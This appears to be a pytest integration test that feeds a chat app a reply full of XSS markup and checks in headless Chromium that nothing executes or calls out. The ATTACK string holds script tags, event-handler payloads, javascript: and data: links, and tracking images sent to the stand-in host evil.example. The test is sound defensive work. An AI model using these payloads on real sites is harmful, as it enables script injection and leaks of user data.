@@ -1,0 +1,198 @@
+"""Replies (and messages) full of script, event handlers, script links and outside images render inert in a
+real headless Chromium: no script runs, no dialog opens, no request leaves for another host.
+
+The model is the scripted one (production seam) so the reply is exactly the attack. The page watches for a
+script running three ways, and a control at the start proves each detector fires when something does run.
+"""
+
+from __future__ import annotations
+
+import shutil
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlparse
+
+import pytest
+from sqlalchemy import select
+
+import tests.guard.scripted_model  # noqa: F401 - registers the "scripted" backend
+from tests.app_server import RunningApp, run_app
+from tests.conftest import PROJECT_ROOT
+from tests.guard.scripted_model import SCRIPT
+from tests.resilience.chat_api import PASSWORD, create_user_with_key
+from tests.ui.conftest import CHROMIUM, CHROMIUM_ARGS
+from webapp.guard.turn import TurnGuard
+from webapp.settings import Settings
+from webapp.store.migrate import upgrade
+from webapp.store.models import Message
+
+pytestmark = pytest.mark.integration
+
+OUTSIDE = "evil.example"
+ATTACK = "\n\n".join(
+    [
+        "Here you go.",
+        "<script>window.__pwned = 'script'; alert('script')</script>",
+        "<img src=x onerror=\"window.__pwned = 'img'; alert('img')\">",
+        "<svg onload=\"window.__pwned = 'svg'\"><circle r=1 /></svg>",
+        "<iframe src=\"javascript:window.top.__pwned = 'iframe'\"></iframe>",
+        "<details open ontoggle=\"window.__pwned = 'details'\">x</details>",
+        "[click me](javascript:window.__pwned='md-link';alert('md-link'))",
+        "[click me too](JaVaScRiPt:alert('mixed-case'))",
+        "<a href=\"javascript:window.__pwned='a'\">html link</a>",
+        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        f"![tracking pixel](http://{OUTSIDE}/pixel.png?chat=secret)",
+        f"![by reference][pic]\n\n[pic]: https://{OUTSIDE}/ref.png",
+        f"<img src=\"https://{OUTSIDE}/raw.png\">",
+        "The end.",
+    ]
+)
+
+
+@dataclass
+class Watch:
+    """What the page did that it must not: dialogs opened, requests to other hosts, the flag scripts set."""
+
+    dialogs: list[str] = field(default_factory=list)
+    outside: list[str] = field(default_factory=list)
+
+    def clear(self) -> None:
+        self.dialogs.clear()
+        self.outside.clear()
+
+
+@pytest.fixture(scope="module")
+def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
+    settings = Settings(  # type: ignore[call-arg]
+        _env_file=None,
+        data_dir=tmp_path_factory.mktemp("rendering"),
+        rails_dir=PROJECT_ROOT / "rails",
+        llm_backend="scripted",
+        self_check_rails=False,
+    )
+    upgrade(settings.resolved_database_url)
+    TurnGuard.clear_cache()
+    with run_app(settings) as running:
+        create_user_with_key(running.ctx.db, "alice")
+        yield running
+    TurnGuard.clear_cache()
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    if not Path(CHROMIUM).exists() or shutil.which("chromium") is None:
+        pytest.fail(f"{CHROMIUM} is missing: apt-get install -y chromium (make test installs it)")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        yield launched
+        launched.close()
+
+
+def watched_page(browser: Any, app: RunningApp, watch: Watch) -> Any:
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    app_host = urlparse(app.url).netloc
+
+    def route(route: Any) -> None:
+        if urlparse(route.request.url).netloc != app_host:
+            watch.outside.append(route.request.url)
+            route.abort()
+        else:
+            route.continue_()
+
+    context.route("**/*", route)
+    page = context.new_page()
+    page.on("dialog", lambda dialog: (watch.dialogs.append(dialog.message), dialog.dismiss()))
+    return page
+
+
+def assert_inert(page: Any, watch: Watch, where: str) -> None:
+    assert watch.dialogs == [], f"{where}: a script opened a dialog: {watch.dialogs}"
+    assert watch.outside == [], f"{where}: the page fetched from another host: {watch.outside}"
+    assert page.evaluate("() => window.__pwned ?? null") is None, f"{where}: a script ran"
+    chat = page.locator("#gc-chat")
+    dangerous = chat.evaluate(
+        """(root) => {
+            const found = [];
+            for (const el of root.querySelectorAll('*')) {
+                for (const attr of el.getAttributeNames()) {
+                    const value = (el.getAttribute(attr) || '').trim().toLowerCase();
+                    if (attr.startsWith('on')) found.push(`${el.tagName} ${attr}`);
+                    if (['href', 'src', 'xlink:href', 'action', 'formaction'].includes(attr)
+                        && /^(javascript|data|vbscript):/.test(value)) found.push(`${el.tagName} ${attr}=${value}`);
+                }
+                if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED'].includes(el.tagName)) found.push(el.tagName);
+                if (el.tagName === 'IMG' && !(el.getAttribute('src') || '').startsWith('/')
+                    && !(el.getAttribute('src') || '').startsWith(location.origin)) found.push(`IMG ${el.src}`);
+            }
+            return found;
+        }"""
+    )
+    assert dangerous == [], f"{where}: live markup in the chat: {dangerous}"
+
+
+def click_every_link(page: Any) -> int:
+    links = page.locator("#gc-chat a")
+    for index in range(links.count()):
+        link = links.nth(index)
+        if link.is_visible():
+            link.click(modifiers=[], no_wait_after=True, timeout=5_000)
+    return int(links.count())
+
+
+def wait_for_reply(app: RunningApp, count: int) -> Message:
+    deadline = time.monotonic() + 120
+    while time.monotonic() < deadline:
+        with app.ctx.db.read() as s:
+            replies = list(s.scalars(select(Message).where(Message.role == "assistant").order_by(Message.id)))
+        if len(replies) >= count and replies[count - 1].status not in ("pending", "streaming"):
+            return replies[count - 1]
+        time.sleep(0.1)
+    raise AssertionError("the reply did not finish")
+
+
+def test_attack_markup_in_replies_and_messages_renders_inert(app: RunningApp, browser: Any) -> None:
+    SCRIPT.reset()
+    SCRIPT.reply = lambda user_text: ATTACK
+    watch = Watch()
+    page = watched_page(browser, app, watch)
+
+    # Control: the detectors see a script that does run, a dialog and an outside request.
+    page.goto(f"{app.url}/login", wait_until="load")
+    page.evaluate(f"() => {{ window.__pwned = 'control'; alert('control'); fetch('http://{OUTSIDE}/c') }}")
+    page.wait_for_function("() => true")
+    deadline = time.monotonic() + 10
+    while not watch.outside and time.monotonic() < deadline:
+        page.wait_for_timeout(50)
+    assert watch.dialogs == ["control"] and watch.outside == [f"http://{OUTSIDE}/c"]
+    assert page.evaluate("() => window.__pwned") == "control"
+    watch.clear()
+
+    page.fill("#username", "alice")
+    page.fill("#password", PASSWORD)
+    page.click("button[type=submit]")
+    page.wait_for_selector("#gc-input textarea")
+    # The user's own message carries the attack too: it is shown back (and to moderators) the same way.
+    page.locator("#gc-input textarea").fill(f"Render this safely please: {ATTACK}")
+    page.locator("#gc-input textarea").press("Enter")
+    reply = wait_for_reply(app, 1)
+    assert reply.status == "complete", (reply.status, reply.content)
+    page.wait_for_selector("#gc-stop", state="hidden", timeout=60_000)
+    page.wait_for_selector("#gc-chat [data-testid=bot] :text('The end.')")
+    assert_inert(page, watch, "streamed reply")
+    assert click_every_link(page) >= 0
+    assert_inert(page, watch, "after clicking every link")
+
+    # The same conversation rendered from the database (page reload), then its links clicked.
+    page.reload(wait_until="load")
+    page.wait_for_selector("#gc-chat [data-testid=bot] :text('The end.')")
+    assert_inert(page, watch, "reloaded history")
+    click_every_link(page)
+    assert_inert(page, watch, "after clicking every link in the history")
+    # The text is still there for the user to read, as text.
+    shown = page.locator("#gc-chat [data-testid=bot]").first.inner_text()
+    assert "<script>" in shown and "javascript:" in shown.lower() and OUTSIDE in shown
